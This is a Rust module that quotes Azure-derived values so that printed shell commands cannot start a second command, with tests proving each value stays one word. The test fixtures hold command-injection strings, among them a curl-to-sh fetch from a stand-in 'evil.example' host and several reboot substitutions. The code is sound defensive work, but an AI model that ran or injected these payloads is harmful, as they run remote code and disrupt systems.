//! Commands as people copy them into a shell. Names come from Azure, from alerts and from settings, and none of them
//! may start a second command: every value is one quoted word, by construction.

use crate::text;
use serde::{Serialize, Serializer};
use std::{borrow::Cow, fmt};

/// A text from elsewhere in one line, fit for a terminal. The longest value in a command is a resource id.
pub fn one_line(text: &str) -> Cow<'_, str> {
    text::clean(text, text::ID)
}

/// A command line that is printed and never run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellCommand(String);

/// One argument of a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Word(String);

impl ShellCommand {
    /// A command of this program's own words.
    pub fn new(words: &'static str) -> Self {
        Self(words.to_owned())
    }

    /// Adds an option and its value.
    pub fn with(self, option: &'static str, value: impl Into<Word>) -> Self {
        let Word(value) = value.into();
        Self(format!("{} {option} {value}", self.0))
    }

    /// Adds an option and its values, such as the ids of several resources.
    pub fn with_each<'v>(
        self,
        option: &'static str,
        values: impl IntoIterator<Item = &'v str>,
    ) -> Self {
        let mut line = format!("{} {option}", self.0);
        for value in values {
            line.push(' ');
            line.push_str(&quote(value));
        }
        Self(line)
    }

    /// Adds words of this program's own.
    pub fn words(self, words: &'static str) -> Self {
        Self(format!("{} {words}", self.0))
    }

    /// Adds a remark for the reader. Some shells take `#` for a word, so what has a meaning to a shell is left out.
    pub fn remark(self, text: &str) -> Self {
        let inert = |c: &char| c.is_ascii_alphanumeric() || " ,.:_/-".contains(*c);
        let text: String = text.chars().filter(inert).collect();
        Self(format!("{}   # {text}", self.0))
    }
}

impl fmt::Display for ShellCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl Serialize for ShellCommand {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.0)
    }
}

impl Word {
    /// What another command prints.
    pub fn output_of(command: &ShellCommand) -> Self {
        Self(format!("\"$({command})\""))
    }
}

impl From<&str> for Word {
    fn from(value: &str) -> Self {
        Self(quote(value))
    }
}

impl From<&String> for Word {
    fn from(value: &String) -> Self {
        Self(quote(value))
    }
}

/// A text as one word of a POSIX shell, without control characters, which no quotes make harmless at a terminal.
pub fn quote(text: &str) -> String {
    let line = one_line(text);
    // It fails on NUL alone, and there is none left.
    shlex::try_quote(&line).map_or_else(|_| "''".to_owned(), Cow::into_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: [&str; 13] = [
        "westus\n;curl https://evil.example|sh",
        "westus\r\nreboot",
        "$(reboot)",
        "`reboot`",
        "a'b",
        r#"a"b"#,
        "a'$(reboot)'b",
        "a\\",
        "!!",
        "^a^b",
        "--yes -x",
        "exe\u{202e}gpj",
        "",
    ];

    #[test]
    fn plain_words_stay_as_they_are_and_others_are_quoted() {
        for (text, expected) in [
            ("rg-shop", "rg-shop"),
            ("/subscriptions/a/b_c.d", "/subscriptions/a/b_c.d"),
            ("rg(old)", "'rg(old)'"),
            ("A=1", "'A=1'"),
            ("<app>", "'<app>'"),
            ("", "''"),
        ] {
            assert_eq!(quote(text), expected);
        }
    }

    #[test]
    fn a_value_is_one_word_whatever_it_holds() {
        for value in HOSTILE {
            let command = ShellCommand::new("az vm show")
                .with("--name", value)
                .words("--output tsv");
            let words = shlex::split(&command.to_string()).expect("balanced quotes");
            let expected = one_line(value);
            let expected = [
                "az",
                "vm",
                "show",
                "--name",
                expected.as_ref(),
                "--output",
                "tsv",
            ];
            assert_eq!(words, expected, "{command}");
            assert!(!command.to_string().contains(char::is_control));
        }
    }

    #[test]
    #[cfg(unix)]
    fn a_real_shell_reads_the_same_word() {
        for value in HOSTILE {
            let command = ShellCommand::new("printf").with("%s", value).to_string();
            let mut shell = std::process::Command::new("sh");
            let output = shell.args(["-c", &command]).output().unwrap();
            assert_eq!(String::from_utf8_lossy(&output.stdout), one_line(value));
        }
    }

    #[test]
    fn a_remark_means_nothing_to_a_shell() {
        let remark = "the tenant of x\n; `reboot` $(reboot) | sh & > f";
        let command = ShellCommand::new("date -u").remark(remark).to_string();
        assert_eq!(command, "date -u   # the tenant of x reboot reboot  sh   f");
    }
}
